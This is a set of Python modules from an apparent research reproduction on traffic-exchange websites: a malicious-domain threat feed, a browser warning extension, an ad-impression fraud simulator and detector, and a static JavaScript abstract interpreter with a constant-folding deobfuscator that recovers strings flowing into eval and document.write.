    def top(self, count: int = 20) -> List[FeedEntry]:
        return sorted(self.entries.values(),
                      key=lambda e: e.malicious_urls, reverse=True)[:count]

    # -- plain-text serialization (one domain per line, like real feeds) --
    def to_text(self) -> str:
        lines = ["# threat feed generated from a traffic-exchange crawl",
                 "# domain\tmalicious_urls\ttotal_urls\texchanges"]
        for entry in sorted(self.entries.values(), key=lambda e: e.domain):
            lines.append("%s\t%d\t%d\t%d" % (
                entry.domain, entry.malicious_urls, entry.total_urls, entry.exchanges_seen))
        return "\n".join(lines) + "\n"

    @classmethod
    def from_text(cls, text: str) -> "ThreatFeed":
        feed = cls()
        for line in text.splitlines():
            if not line.strip() or line.startswith("#"):
                continue
            parts = line.split("\t")
            if len(parts) < 4:
                continue
            entry = FeedEntry(domain=parts[0], malicious_urls=int(parts[1]),
                              total_urls=int(parts[2]), exchanges_seen=int(parts[3]))
            feed.entries[entry.domain] = entry
        return feed


def build_threat_feed(
    dataset: CrawlDataset,
    outcome: ScanOutcome,
    min_malicious_urls: int = 2,
    min_malicious_fraction: float = 0.5,
) -> ThreatFeed:
    """Aggregate scan verdicts into a domain blocklist.

    A domain is listed when it served at least ``min_malicious_urls``
    distinct malicious URLs *and* the majority of its distinct URLs were
    malicious (so mostly-benign domains with one bad page are spared —
    the list stays low-FP, unlike the stale public lists the paper had
    to double-check).
    """
    per_domain_total: Dict[str, Set[str]] = {}
    per_domain_bad: Dict[str, Set[str]] = {}
    per_domain_exchanges: Dict[str, Set[str]] = {}
    example: Dict[str, str] = {}

    for record in dataset.records:
        if record.kind != RecordKind.REGULAR:
            continue
        parsed = Url.try_parse(record.url)
        if parsed is None:
            continue
        domain = parsed.registrable_domain
        per_domain_total.setdefault(domain, set()).add(record.url)
        per_domain_exchanges.setdefault(domain, set()).add(record.exchange)
        if outcome.is_malicious(record.url):
            per_domain_bad.setdefault(domain, set()).add(record.url)
            example.setdefault(domain, record.url)

    feed = ThreatFeed()
    for domain, bad_urls in per_domain_bad.items():
        total = len(per_domain_total.get(domain, ()))
        if len(bad_urls) < min_malicious_urls:
            continue
        if total and len(bad_urls) / total < min_malicious_fraction:
            continue
        feed.entries[domain] = FeedEntry(
            domain=domain,
            malicious_urls=len(bad_urls),
            total_urls=total,
            exchanges_seen=len(per_domain_exchanges.get(domain, ())),
            example_url=example.get(domain, ""),
        )
    return feed
