"""User-facing traffic-exchange warning (Section VI).

The paper recommends that "users could ... be shown a warning before
they visit a traffic exchange website, incorporated via a plugin or
extension in any modern browser".  This module is that extension's
logic: a navigation checker combining

* a curated list of known exchange domains (the studied nine plus the
  referrer domains Table IV surfaced), and
* content heuristics for *unknown* exchanges — surf timers, credit
  vocabulary, CAPTCHAs on a rotation page — so new exchanges are caught
  before a list update.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Optional, Set

from ..exchanges.roster import EXCHANGE_PROFILES
from ..htmlparse import parse
from ..simweb.url import Url

__all__ = ["NavigationWarning", "ExchangeWarningExtension", "KNOWN_EXCHANGE_DOMAINS"]

#: the studied exchanges plus exchange referrers observed in Table IV
KNOWN_EXCHANGE_DOMAINS: Set[str] = {
    Url.parse("http://%s/" % p.host).registrable_domain for p in EXCHANGE_PROFILES
} | {
    "warofclicks.com", "hit4hit.org", "vtrafficrush.com",
    "hotwebsitetraffic.com", "trafficadbar.com", "websyndic.com", "x100k.com",
}

_EXCHANGE_VOCABULARY = (
    "traffic exchange", "autosurf", "auto-surf", "manual surf", "surf ratio",
    "earn credits", "credits per", "hits4", "cash per click", "surf timer",
    "earn traffic", "surfing member sites", "per-impression",
)


@dataclass
class NavigationWarning:
    """What the extension shows the user before the page loads."""

    url: str
    reason: str  # "known-exchange" | "exchange-heuristic"
    detail: str
    severity: str = "warning"

    @property
    def message(self) -> str:
        return (
            "The site %s appears to be a traffic exchange (%s). Surfing it "
            "exposes your browser to unvetted member pages — 26%%+ of URLs on "
            "such services were found malicious." % (self.url, self.detail)
        )


class ExchangeWarningExtension:
    """Checks navigations, like a browser extension's webRequest hook."""

    def __init__(self, known_domains: Optional[Iterable[str]] = None,
                 heuristic_threshold: int = 2) -> None:
        self.known_domains: Set[str] = (
            set(known_domains) if known_domains is not None else set(KNOWN_EXCHANGE_DOMAINS)
        )
        self.heuristic_threshold = heuristic_threshold
        self.warnings_shown = 0
        self.navigations_checked = 0

    def check_navigation(self, url: str, page_html: Optional[str] = None) -> Optional[NavigationWarning]:
        """Return a warning when ``url`` looks like a traffic exchange.

        ``page_html``, when available (e.g. from a prefetch), enables the
        content heuristics for exchanges not on the list.
        """
        self.navigations_checked += 1
        parsed = Url.try_parse(url)
        if parsed is None:
            return None
        if parsed.registrable_domain in self.known_domains or parsed.host in self.known_domains:
            matched = (parsed.host if parsed.host in self.known_domains
                       else parsed.registrable_domain)
            self.warnings_shown += 1
            return NavigationWarning(
                url=url, reason="known-exchange",
                detail="listed exchange domain %s" % matched,
            )
        if page_html:
            hits = self._vocabulary_hits(page_html)
            if hits >= self.heuristic_threshold:
                self.warnings_shown += 1
                return NavigationWarning(
                    url=url, reason="exchange-heuristic",
                    detail="%d exchange-vocabulary markers on page" % hits,
                )
        return None

    @staticmethod
    def _vocabulary_hits(page_html: str) -> int:
        text = parse(page_html).text_content().lower()
        lowered_html = page_html.lower()
        hits = sum(1 for phrase in _EXCHANGE_VOCABULARY if phrase in text)
        # structural markers: a surf timer and a credit counter
        if 'id="timer"' in lowered_html or "surf-timer" in lowered_html:
            hits += 1
        if "credits" in text and ("timer" in text or "captcha" in text):
            hits += 1
        return hits

    def add_domain(self, domain: str) -> None:
        """List-update path (e.g. fed from a measurement study like ours)."""
        self.known_domains.add(domain)
