"""Bridge from exchange surf traffic to ad-network impression logs.

Connects the two halves of the ecosystem the paper describes: member
sites carry ad slots; exchange surf steps generate ad impressions from
a diverse member-IP pool; the ad network's fraud detector
(:mod:`repro.countermeasures.adfraud`) then vets those logs.
"""

from __future__ import annotations

import random
from typing import Iterable, Iterator, List, Optional

from ..exchanges.accounts import sample_country
from ..exchanges.base import StepKind, SurfStep, TrafficExchange
from .adfraud import ImpressionRecord

__all__ = ["impressions_from_surf", "simulate_exchange_impressions"]


def impressions_from_surf(
    exchange: TrafficExchange,
    steps: Iterable[SurfStep],
    rng: random.Random,
    click_rate: float = 0.0005,
) -> Iterator[ImpressionRecord]:
    """Convert member-site surf steps into ad impressions.

    Every member-site page view renders its ad slot once; the visitor's
    IP comes from the exchange's diverse member pool and the dwell time
    is the surf timer — the signals the fraud detector keys on.  Clicks
    are vanishingly rare: auto-surf bots never click, and manual surfers
    click the *next-site* button, not the ads.
    """
    for step in steps:
        if step.kind not in (StepKind.MEMBER_SITE, StepKind.CAMPAIGN):
            continue
        yield ImpressionRecord(
            publisher_url=step.url,
            referrer="http://%s/surf" % exchange.host,
            ip_address="%d.%d.%d.%d" % (
                rng.randrange(1, 224), rng.randrange(256),
                rng.randrange(256), rng.randrange(1, 255),
            ),
            country=sample_country(rng),
            dwell_seconds=step.surf_seconds,
            clicked=rng.random() < click_rate,
        )


def simulate_exchange_impressions(
    exchange: TrafficExchange,
    steps: int,
    rng: Optional[random.Random] = None,
    account_id: str = "ad-study-account",
) -> List[ImpressionRecord]:
    """Run a surf session and collect the impressions it generates."""
    rng = rng or random.Random(0)
    exchange.register_member(account_id, "192.0.2.%d" % rng.randrange(1, 255))
    session = exchange.open_session(account_id)
    if session is None:
        raise RuntimeError("exchange refused the session")
    surf = (exchange.next_step(session) for _ in range(steps))
    return list(impressions_from_surf(exchange, surf, rng))
