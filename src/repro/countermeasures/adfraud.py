"""Ad-network impression-fraud vetting (Section VI).

The paper's recommendation to ad networks: "look out for potential fraud
in ad impressions, view counts, and clicks" — reputable networks
(AdSense, DoubleClick) disallow traffic exchanges outright.  This module
is the network-side vetting pipeline:

* :class:`ImpressionRecord` — one served ad impression with the signals
  a real ad server logs (referrer, IP, country, dwell time, click),
* :class:`PublisherReport` — aggregate fraud signals per publisher,
* :class:`AdFraudDetector` — the vetting rules: exchange referrers,
  abnormal IP diversity, timer-quantized dwell times, and near-zero
  click-through despite high impression volume.
"""

from __future__ import annotations

import statistics
from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Set

from ..simweb.url import Url
from .warning import KNOWN_EXCHANGE_DOMAINS

__all__ = ["ImpressionRecord", "PublisherReport", "AdFraudDetector"]


@dataclass(frozen=True)
class ImpressionRecord:
    """One ad impression as logged by the ad server."""

    publisher_url: str
    referrer: str
    ip_address: str
    country: str
    dwell_seconds: float
    clicked: bool = False

    @property
    def publisher_domain(self) -> str:
        parsed = Url.try_parse(self.publisher_url)
        return parsed.registrable_domain if parsed is not None else ""

    @property
    def referrer_domain(self) -> str:
        parsed = Url.try_parse(self.referrer)
        return parsed.registrable_domain if parsed is not None else ""


@dataclass
class PublisherReport:
    """Aggregate fraud signals for one publisher."""

    publisher_domain: str
    impressions: int = 0
    clicks: int = 0
    exchange_referred: int = 0
    unique_ips: int = 0
    countries: Counter = field(default_factory=Counter)
    dwell_values: List[float] = field(default_factory=list, repr=False)
    fraudulent: bool = False
    reasons: List[str] = field(default_factory=list)

    @property
    def click_through_rate(self) -> float:
        return self.clicks / self.impressions if self.impressions else 0.0

    @property
    def exchange_share(self) -> float:
        return self.exchange_referred / self.impressions if self.impressions else 0.0

    @property
    def ip_diversity(self) -> float:
        """Unique IPs per impression — exchanges rotate a diverse pool."""
        return self.unique_ips / self.impressions if self.impressions else 0.0

    @property
    def dwell_uniformity(self) -> float:
        """1 / (1 + stdev/mean): near 1 when dwell is timer-quantized."""
        if len(self.dwell_values) < 3:
            return 0.0
        mean = statistics.fmean(self.dwell_values)
        if mean <= 0:
            return 0.0
        spread = statistics.pstdev(self.dwell_values)
        return 1.0 / (1.0 + spread / mean)


class AdFraudDetector:
    """Vets publishers from impression logs."""

    def __init__(
        self,
        exchange_domains: Optional[Iterable[str]] = None,
        min_impressions: int = 20,
        exchange_share_threshold: float = 0.3,
        ip_diversity_threshold: float = 0.8,
        max_organic_ctr: float = 0.002,
        dwell_uniformity_threshold: float = 0.85,
    ) -> None:
        self.exchange_domains: Set[str] = (
            set(exchange_domains) if exchange_domains is not None
            else set(KNOWN_EXCHANGE_DOMAINS)
        )
        self.min_impressions = min_impressions
        self.exchange_share_threshold = exchange_share_threshold
        self.ip_diversity_threshold = ip_diversity_threshold
        self.max_organic_ctr = max_organic_ctr
        self.dwell_uniformity_threshold = dwell_uniformity_threshold

    # ------------------------------------------------------------------
    def analyze(self, impressions: Iterable[ImpressionRecord]) -> Dict[str, PublisherReport]:
        """Aggregate and vet; returns per-publisher reports."""
        reports: Dict[str, PublisherReport] = {}
        ips: Dict[str, Set[str]] = {}
        for record in impressions:
            domain = record.publisher_domain
            if not domain:
                continue
            report = reports.get(domain)
            if report is None:
                report = PublisherReport(publisher_domain=domain)
                reports[domain] = report
                ips[domain] = set()
            report.impressions += 1
            report.clicks += int(record.clicked)
            report.countries[record.country] += 1
            report.dwell_values.append(record.dwell_seconds)
            ips[domain].add(record.ip_address)
            if record.referrer_domain in self.exchange_domains:
                report.exchange_referred += 1
        for domain, report in reports.items():
            report.unique_ips = len(ips[domain])
            self._vet(report)
        return reports

    # ------------------------------------------------------------------
    def _vet(self, report: PublisherReport) -> None:
        if report.impressions < self.min_impressions:
            return  # not enough volume to judge
        if report.exchange_share >= self.exchange_share_threshold:
            report.reasons.append(
                "%.0f%% of impressions referred by traffic exchanges"
                % (100 * report.exchange_share)
            )
        behavioural = 0
        if report.ip_diversity >= self.ip_diversity_threshold:
            behavioural += 1
            report.reasons.append(
                "abnormal IP diversity (%.2f unique IPs/impression)" % report.ip_diversity
            )
        if report.click_through_rate <= self.max_organic_ctr:
            behavioural += 1
            report.reasons.append(
                "near-zero click-through (%.3f%%) at volume" % (100 * report.click_through_rate)
            )
        if report.dwell_uniformity >= self.dwell_uniformity_threshold:
            behavioural += 1
            report.reasons.append(
                "timer-quantized dwell times (uniformity %.2f)" % report.dwell_uniformity
            )
        # fraud: direct exchange referrals, or at least two behavioural tells
        report.fraudulent = report.exchange_share >= self.exchange_share_threshold or behavioural >= 2

    def fraudulent_publishers(self, reports: Dict[str, PublisherReport]) -> List[str]:
        return sorted(d for d, r in reports.items() if r.fraudulent)
