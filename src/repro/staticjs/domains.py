"""Abstract value domain for the staticjs abstract interpreter.

The lattice is deliberately *flat at the bottom*: concrete JS values
(Python ``str``/``float``/``bool``/host objects, exactly as
:mod:`repro.jsengine.values` represents them) are their own abstract
elements, so the interpreter in :mod:`repro.staticjs.absint` computes
bit-identical results to the sandbox whenever a script stays concrete.
Above the concrete layer sit four abstract summaries:

* ``NUMBER`` — an unknown number constrained to an :class:`Interval`,
* ``STRING`` — an unknown string with a length upper bound (needed to
  prove the sandbox's 2 MB allocation guard cannot fire),
* ``BOOLEAN`` — an unknown boolean,
* ``TOP`` — a value of unknown type.

Joins and widenings only ever move *up* this lattice; an abstract value
reaching an observable effect makes the script's effect summary
incomplete (see :class:`repro.staticjs.absint.AbstractEffects`).
"""

from __future__ import annotations

import math
from typing import Any, Iterable, Optional, Set

from ..jsengine.values import JSArray, JSFunction, JSObject

__all__ = [
    "Interval", "AbstractValue", "TOP", "BOOL_TOP", "STR_TOP", "NUM_TOP",
    "number", "string", "is_abstract", "contains_abstract", "join_values",
    "widen_values",
]

_INF = float("inf")

KIND_TOP = "top"
KIND_NUMBER = "number"
KIND_STRING = "string"
KIND_BOOLEAN = "boolean"


class Interval:
    """A closed numeric interval ``[lo, hi]`` (NaN always admitted).

    JS numbers are doubles and every abstract number may be NaN (e.g.
    ``Number(Math.random() + 'x')``), so the interval constrains the
    value only *when it is a number*; consumers must not use it to
    prove NaN-freedom.
    """

    __slots__ = ("lo", "hi")

    def __init__(self, lo: float = -_INF, hi: float = _INF) -> None:
        self.lo = lo
        self.hi = hi

    @classmethod
    def top(cls) -> "Interval":
        return cls(-_INF, _INF)

    @classmethod
    def const(cls, value: float) -> "Interval":
        if math.isnan(value):
            return cls.top()
        return cls(value, value)

    def join(self, other: "Interval") -> "Interval":
        return Interval(min(self.lo, other.lo), max(self.hi, other.hi))

    def widen(self, other: "Interval") -> "Interval":
        """Standard interval widening: unstable bounds jump to ±inf."""
        lo = self.lo if other.lo >= self.lo else -_INF
        hi = self.hi if other.hi <= self.hi else _INF
        return Interval(lo, hi)

    def add(self, other: "Interval") -> "Interval":
        return Interval(self.lo + other.lo, self.hi + other.hi)

    def sub(self, other: "Interval") -> "Interval":
        return Interval(self.lo - other.hi, self.hi - other.lo)

    def mul(self, other: "Interval") -> "Interval":
        corners = [self.lo * other.lo, self.lo * other.hi,
                   self.hi * other.lo, self.hi * other.hi]
        finite = [c for c in corners if not math.isnan(c)]
        if not finite:
            return Interval.top()
        return Interval(min(finite), max(finite))

    def neg(self) -> "Interval":
        return Interval(-self.hi, -self.lo)

    def contains(self, value: float) -> bool:
        if math.isnan(value):
            return True
        return self.lo <= value <= self.hi

    def is_top(self) -> bool:
        return self.lo == -_INF and self.hi == _INF

    def __eq__(self, other: object) -> bool:
        return (isinstance(other, Interval)
                and other.lo == self.lo and other.hi == self.hi)

    def __hash__(self) -> int:
        return hash((self.lo, self.hi))

    def __repr__(self) -> str:
        return "[%g, %g]" % (self.lo, self.hi)


class AbstractValue:
    """A non-concrete value: unknown number/string/boolean or TOP."""

    __slots__ = ("kind", "interval", "max_len")

    def __init__(self, kind: str, interval: Optional[Interval] = None,
                 max_len: float = _INF) -> None:
        self.kind = kind
        #: numeric constraint when ``kind == "number"``
        self.interval = interval if interval is not None else Interval.top()
        #: string length upper bound when ``kind == "string"`` — lets the
        #: interpreter prove concatenations stay under the sandbox's
        #: MAX_STRING_LENGTH allocation guard
        self.max_len = max_len

    def __repr__(self) -> str:
        if self.kind == KIND_NUMBER and not self.interval.is_top():
            return "<number %r>" % self.interval
        if self.kind == KIND_STRING and self.max_len != _INF:
            return "<string len<=%g>" % self.max_len
        return "<%s>" % self.kind


TOP = AbstractValue(KIND_TOP)
BOOL_TOP = AbstractValue(KIND_BOOLEAN)
STR_TOP = AbstractValue(KIND_STRING)
NUM_TOP = AbstractValue(KIND_NUMBER)


def number(interval: Optional[Interval] = None) -> AbstractValue:
    """An unknown number constrained to ``interval``."""
    if interval is None or interval.is_top():
        return NUM_TOP
    return AbstractValue(KIND_NUMBER, interval)


def string(max_len: float = _INF) -> AbstractValue:
    """An unknown string of at most ``max_len`` characters."""
    if max_len == _INF:
        return STR_TOP
    return AbstractValue(KIND_STRING, max_len=max_len)


def is_abstract(value: Any) -> bool:
    return isinstance(value, AbstractValue)


def contains_abstract(value: Any, _seen: Optional[Set[int]] = None) -> bool:
    """Deep scan: does ``value`` contain any abstract component?

    Recurses through JS arrays and objects (cycle-safe) so host effects
    and pure builtins can refuse to operate on partially unknown data.
    """
    if isinstance(value, AbstractValue):
        return True
    if isinstance(value, (JSArray, JSObject)):
        seen = _seen if _seen is not None else set()
        key = id(value)
        if key in seen:
            return False
        seen.add(key)
        children: Iterable[Any]
        if isinstance(value, JSArray):
            children = value.elements
        else:
            children = list(value.properties.values())
        return any(contains_abstract(child, seen) for child in children)
    if isinstance(value, JSFunction):
        return False
    return False


def _lift(value: Any) -> Optional[AbstractValue]:
    """The smallest abstract summary of a value, or None when the value
    cannot be summarised (objects/functions join straight to TOP)."""
    if isinstance(value, AbstractValue):
        return value
    if isinstance(value, bool):
        return BOOL_TOP
    if isinstance(value, (int, float)):
        return number(Interval.const(float(value)))
    if isinstance(value, str):
        return string(float(len(value)))
    return None


def join_values(a: Any, b: Any) -> Any:
    """Least upper bound of two (possibly concrete) values."""
    if a is b:
        return a
    if not isinstance(a, AbstractValue) and not isinstance(b, AbstractValue):
        if type(a) is type(b) and isinstance(a, (str, float, bool, int)) and a == b:
            return a
    lifted_a, lifted_b = _lift(a), _lift(b)
    if lifted_a is None or lifted_b is None:
        return TOP
    if lifted_a.kind != lifted_b.kind:
        return TOP
    if lifted_a.kind == KIND_NUMBER:
        return number(lifted_a.interval.join(lifted_b.interval))
    if lifted_a.kind == KIND_STRING:
        return string(max(lifted_a.max_len, lifted_b.max_len))
    if lifted_a.kind == KIND_BOOLEAN:
        return BOOL_TOP
    return TOP


def widen_values(previous: Any, current: Any) -> Any:
    """Widening: like join, but unstable numeric bounds jump to ±inf.

    Used at CFG loop heads once concrete unrolling exceeds its budget;
    guarantees the abstract loop analysis terminates.
    """
    if previous is current:
        return previous
    joined = join_values(previous, current)
    if not isinstance(joined, AbstractValue):
        return joined
    if joined.kind != KIND_NUMBER:
        if joined.kind == KIND_STRING:
            prev = _lift(previous)
            cur = _lift(current)
            if (prev is not None and cur is not None
                    and prev.kind == KIND_STRING and cur.kind == KIND_STRING
                    and cur.max_len > prev.max_len):
                return STR_TOP  # growing string: drop the length bound
        return joined
    prev_lifted = _lift(previous)
    if prev_lifted is None or prev_lifted.kind != KIND_NUMBER:
        return joined
    return number(prev_lifted.interval.widen(joined.interval))
