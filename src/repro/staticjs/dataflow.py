"""Constant folding and string propagation over the jsengine AST.

The de-obfuscation layer in :mod:`repro.jsengine.deobfuscate` peels
literal-level packing with regexes; this module does the same job
*semantically*, on the parsed AST, which lets it resolve idioms the
regex peeler misses: single-assignment variables flowing into sinks,
``String.fromCharCode`` with folded arithmetic arguments, array
``join``/``reverse`` chains, and IIFE parameter binding (the Google
Analytics bootstrap pattern ``(function(a,b){...})('literal', ...)``).

The public entry point is :func:`propagate`, which returns a
:class:`Resolution`: the constant environment plus every statically
resolved string that reaches an ``eval``-like sink, a
``document.write`` sink, or a URL-bearing assignment (``.src``,
``.href``, ``location``).
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from ..jsengine import nodes as N
from ..jsengine.deobfuscate import PURE_DECODERS

__all__ = ["UNKNOWN", "Resolution", "ResolvedString", "fold", "propagate", "callee_path"]


class _Unknown:
    """Sentinel: the expression does not fold to a compile-time constant."""

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return "UNKNOWN"

    def __bool__(self) -> bool:
        return False


UNKNOWN = _Unknown()

#: folding is bounded so adversarial inputs cannot blow up memory
_MAX_FOLDED_STRING = 1 << 20
_MAX_FOLD_DEPTH = 200


@dataclass
class ResolvedString:
    """One statically recovered string reaching an interesting site."""

    value: str
    sink: str  # "eval" | "write" | "url" | "timer"
    detail: str = ""  # e.g. the member path assigned, or callee name


@dataclass
class Resolution:
    """Everything constant propagation recovered from one script."""

    constants: Dict[str, Any] = field(default_factory=dict)
    eval_payloads: List[ResolvedString] = field(default_factory=list)
    write_payloads: List[ResolvedString] = field(default_factory=list)
    url_strings: List[ResolvedString] = field(default_factory=list)

    @property
    def resolved(self) -> List[ResolvedString]:
        return self.eval_payloads + self.write_payloads + self.url_strings


def callee_path(node: N.Node) -> str:
    """Dotted path of a callee/member chain (``''`` when not static)."""
    if isinstance(node, N.Identifier):
        return node.name
    if isinstance(node, N.Member) and isinstance(node.prop, N.StringLiteral):
        base = callee_path(node.obj)
        return (base + "." if base else "") + node.prop.value
    if isinstance(node, N.ThisExpr):
        return "this"
    return ""


def _truthy(value: Any) -> bool:
    if isinstance(value, str):
        return bool(value)
    if isinstance(value, bool):
        return value
    if isinstance(value, float):
        return value != 0.0 and value == value  # NaN is falsy
    if value is None:
        return False
    return bool(value)


def _to_str(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if value != value:
            return "NaN"
        if math.isinf(value):
            return "Infinity" if value > 0 else "-Infinity"
        if value == int(value) and abs(value) < 1e21:
            return str(int(value))
        return repr(value)
    if value is None:
        return "null"
    if isinstance(value, list):
        return ",".join(_to_str(v) for v in value)
    return str(value)


def _to_num(value: Any) -> float:
    if isinstance(value, bool):
        return 1.0 if value else 0.0
    if isinstance(value, float):
        return value
    if isinstance(value, str):
        # mirrors values.to_number: hex literals parse, junk is NaN
        text = value.strip()
        if not text:
            return 0.0
        try:
            if text.lower().startswith(("0x", "-0x", "+0x")):
                return float(int(text, 16))
            return float(text)
        except ValueError:
            return float("nan")
    if value is None:
        return 0.0
    return float("nan")


def fold(node: Optional[N.Node], env: Optional[Dict[str, Any]] = None,
         _depth: int = 0) -> Any:
    """Fold ``node`` to a Python constant, or :data:`UNKNOWN`.

    Strings fold to ``str``, numbers to ``float``, booleans to ``bool``,
    ``null`` to ``None``, and all-constant array literals to ``list``.
    """
    if env is None:
        env = {}
    if node is None or _depth > _MAX_FOLD_DEPTH:
        return UNKNOWN
    if isinstance(node, N.StringLiteral):
        return node.value
    if isinstance(node, N.NumberLiteral):
        return float(node.value)
    if isinstance(node, N.BooleanLiteral):
        return node.value
    if isinstance(node, N.NullLiteral):
        return None
    if isinstance(node, N.Identifier):
        return env.get(node.name, UNKNOWN)
    if isinstance(node, N.ArrayLiteral):
        items = [fold(el, env, _depth + 1) for el in node.elements]
        if any(item is UNKNOWN for item in items):
            return UNKNOWN
        return items
    if isinstance(node, N.Binary):
        return _fold_binary(node, env, _depth)
    if isinstance(node, N.Logical):
        left = fold(node.left, env, _depth + 1)
        if left is UNKNOWN:
            return UNKNOWN
        if node.operator == "&&":
            return fold(node.right, env, _depth + 1) if _truthy(left) else left
        return left if _truthy(left) else fold(node.right, env, _depth + 1)
    if isinstance(node, N.Unary):
        return _fold_unary(node, env, _depth)
    if isinstance(node, N.Conditional):
        test = fold(node.test, env, _depth + 1)
        if test is UNKNOWN:
            return UNKNOWN
        branch = node.consequent if _truthy(test) else node.alternate
        return fold(branch, env, _depth + 1)
    if isinstance(node, N.Sequence):
        return fold(node.expressions[-1], env, _depth + 1) if node.expressions else UNKNOWN
    if isinstance(node, N.Member):
        return _fold_member(node, env, _depth)
    if isinstance(node, N.Call):
        return _fold_call(node, env, _depth)
    return UNKNOWN


def _fold_binary(node: N.Binary, env: Dict[str, Any], depth: int) -> Any:
    # '+' chains parse left-deep; collect the spine iteratively so a
    # thousand-piece concatenation cannot exhaust the Python stack
    if node.operator == "+":
        operands: List[N.Node] = []
        stack: List[N.Node] = [node]
        while stack:
            current = stack.pop()
            if isinstance(current, N.Binary) and current.operator == "+":
                stack.append(current.right)
                stack.append(current.left)
            else:
                operands.append(current)
        values = [fold(op, env, depth + 1) for op in operands]
        if any(v is UNKNOWN for v in values):
            return UNKNOWN
        if any(isinstance(v, (str, list)) for v in values):
            out = "".join(_to_str(v) for v in values)
            return out if len(out) <= _MAX_FOLDED_STRING else UNKNOWN
        return float(sum(_to_num(v) for v in values))
    left = fold(node.left, env, depth + 1)
    right = fold(node.right, env, depth + 1)
    if left is UNKNOWN or right is UNKNOWN:
        return UNKNOWN
    op = node.operator
    if op in ("==", "==="):
        return left == right
    if op in ("!=", "!=="):
        return left != right
    if op in ("<", ">", "<=", ">="):
        try:
            if isinstance(left, str) and isinstance(right, str):
                pair: Tuple[Any, Any] = (left, right)
            else:
                pair = (_to_num(left), _to_num(right))
            return {"<": pair[0] < pair[1], ">": pair[0] > pair[1],
                    "<=": pair[0] <= pair[1], ">=": pair[0] >= pair[1]}[op]
        except TypeError:
            return UNKNOWN
    a, b = _to_num(left), _to_num(right)
    if op == "-":
        return a - b
    if op == "*":
        return a * b
    if op == "/":
        # mirrors Interpreter: x/0 is signed Infinity, 0/0 and NaN/0 NaN
        if b == 0:
            if a == 0 or math.isnan(a):
                return float("nan")
            return math.copysign(float("inf"), a)
        return a / b
    if op == "%":
        # mirrors Interpreter: fmod (JS remainder keeps the dividend sign)
        if b == 0 or math.isnan(a) or math.isinf(a):
            return float("nan")
        return math.fmod(a, b)
    if op in ("&", "|", "^", "<<", ">>", ">>>"):
        try:
            ia, ib = int(a), int(b)
        except (ValueError, OverflowError):
            return UNKNOWN
        if op == "&":
            return float(ia & ib)
        if op == "|":
            return float(ia | ib)
        if op == "^":
            return float(ia ^ ib)
        if op == "<<":
            return float((ia << (ib & 31)) & 0xFFFFFFFF)
        return float((ia & 0xFFFFFFFF) >> (ib & 31))
    return UNKNOWN


def _fold_unary(node: N.Unary, env: Dict[str, Any], depth: int) -> Any:
    value = fold(node.argument, env, depth + 1)
    if value is UNKNOWN:
        return UNKNOWN
    if node.operator == "!":
        return not _truthy(value)
    if node.operator == "-":
        return -_to_num(value)
    if node.operator == "+":
        return _to_num(value)
    if node.operator == "~":
        try:
            return float(~int(_to_num(value)))
        except (ValueError, OverflowError):
            return UNKNOWN
    if node.operator == "typeof":
        if isinstance(value, str):
            return "string"
        if isinstance(value, bool):
            return "boolean"
        if isinstance(value, float):
            return "number"
        return "object"
    return UNKNOWN


def _fold_member(node: N.Member, env: Dict[str, Any], depth: int) -> Any:
    obj = fold(node.obj, env, depth + 1)
    if obj is UNKNOWN:
        return UNKNOWN
    prop = fold(node.prop, env, depth + 1) if node.computed else (
        node.prop.value if isinstance(node.prop, N.StringLiteral) else UNKNOWN
    )
    if prop is UNKNOWN:
        return UNKNOWN
    if prop == "length" and isinstance(obj, (str, list)):
        return float(len(obj))
    if isinstance(obj, (str, list)) and isinstance(prop, float):
        index = int(prop)
        if 0 <= index < len(obj):
            return obj[index]
    return UNKNOWN


#: string/array methods the folder evaluates on constant receivers
def _fold_call(node: N.Call, env: Dict[str, Any], depth: int) -> Any:
    path = callee_path(node.callee)
    args = [fold(a, env, depth + 1) for a in node.arguments]

    if path == "String.fromCharCode":
        if any(a is UNKNOWN for a in args):
            return UNKNOWN
        try:
            return "".join(chr(int(_to_num(a)) & 0xFFFF) for a in args)
        except (ValueError, OverflowError):
            return UNKNOWN
    if path in ("unescape", "window.unescape", "decodeURIComponent", "decodeURI",
                "atob", "window.atob"):
        if len(args) == 1 and isinstance(args[0], str):
            decoded = PURE_DECODERS[path.rpartition(".")[2]](args[0])
            return decoded if decoded is not None else UNKNOWN
        return UNKNOWN
    if path == "parseInt" and args and isinstance(args[0], (str, float)):
        base_val = int(_to_num(args[1])) if len(args) > 1 and args[1] is not UNKNOWN else 10
        try:
            return float(int(_to_str(args[0]).strip(), base_val or 10))
        except (ValueError, OverflowError):
            return UNKNOWN
    if path == "String" and len(args) == 1 and args[0] is not UNKNOWN:
        return _to_str(args[0])
    if path == "Number" and len(args) == 1 and args[0] is not UNKNOWN:
        return _to_num(args[0])

    # method call on a foldable receiver: 'abc'.split('') etc.
    if isinstance(node.callee, N.Member) and isinstance(node.callee.prop, N.StringLiteral):
        receiver = fold(node.callee.obj, env, depth + 1)
        if receiver is not UNKNOWN:
            return _fold_method(receiver, node.callee.prop.value, args)
    return UNKNOWN


def _fold_method(receiver: Any, method: str, args: List[Any]) -> Any:
    if any(a is UNKNOWN for a in args):
        return UNKNOWN
    if isinstance(receiver, str):
        if method == "split":
            sep = _to_str(args[0]) if args else UNKNOWN
            if sep is UNKNOWN:
                return UNKNOWN
            return list(receiver) if sep == "" else receiver.split(sep)
        if method in ("charAt",):
            index = int(_to_num(args[0])) if args else 0
            return receiver[index] if 0 <= index < len(receiver) else ""
        if method == "charCodeAt":
            index = int(_to_num(args[0])) if args else 0
            return float(ord(receiver[index])) if 0 <= index < len(receiver) else float("nan")
        if method in ("substring", "slice", "substr"):
            start = int(_to_num(args[0])) if args else 0
            if method == "substr":
                length = int(_to_num(args[1])) if len(args) > 1 else len(receiver)
                start = max(0, start if start >= 0 else len(receiver) + start)
                return receiver[start:start + max(0, length)]
            end = int(_to_num(args[1])) if len(args) > 1 else len(receiver)
            if method == "slice":
                return receiver[slice(start, end)] if start >= 0 or end >= 0 else receiver[start:end]
            start, end = max(0, min(start, end)), max(0, max(start, end))
            return receiver[start:end]
        if method == "toLowerCase":
            return receiver.lower()
        if method == "toUpperCase":
            return receiver.upper()
        if method == "trim":
            return receiver.strip()
        if method == "concat":
